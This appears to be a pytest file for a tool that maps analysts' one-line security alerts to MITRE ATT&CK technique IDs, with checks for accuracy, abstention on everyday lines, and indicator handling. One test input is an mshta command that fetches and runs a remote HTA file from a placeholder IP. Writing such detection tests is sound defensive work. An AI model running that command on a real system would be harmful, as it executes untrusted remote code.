"""One-line alerts as analysts paste them, and the noise they paste as well, over the real release."""

from __future__ import annotations

from pathlib import Path

from knowledge.mapping import Mapper

HERE = Path(__file__).parent


def _lines(name: str) -> list[str]:
    return [line for line in (HERE / name).read_text("utf-8").splitlines() if line and not line.startswith("#")]


def test_most_alerts_show_their_technique_among_the_first_three(real_mapper: Mapper) -> None:
    missed, silent = [], []
    for line in _lines("alerts.txt"):
        wanted, text = line.split(" | ", 1)
        found = [each.id for each in real_mapper.map(text).techniques[:3]]
        if not found:
            silent.append(text)
        elif not set(wanted.split(",")) & set(found):
            missed.append((text, found))
    size = len(_lines("alerts.txt"))
    assert len(silent) <= 0.1 * size, silent
    assert len(silent) + len(missed) <= 0.12 * size, missed


def test_everyday_lines_are_no_alerts(real_mapper: Mapper) -> None:
    lines = _lines("everyday.txt")
    answered = [line for line in lines if not real_mapper.map(line).abstained]
    assert len(answered) <= 0.05 * len(lines), answered


def test_a_program_and_a_link_are_an_act_not_two_indicators(real_mapper: Mapper) -> None:
    assert [each.id for each in real_mapper.map("mshta.exe http://203.0.113.7/x.hta").techniques[:1]] == ["T1218.005"]
    listed = real_mapper.map("203.0.113.7\nhttp://203.0.113.7/x.hta\nd41d8cd98f00b204e9800998ecf8427e")
    assert listed.abstained
    assert "Indicators are not techniques" in listed.reason
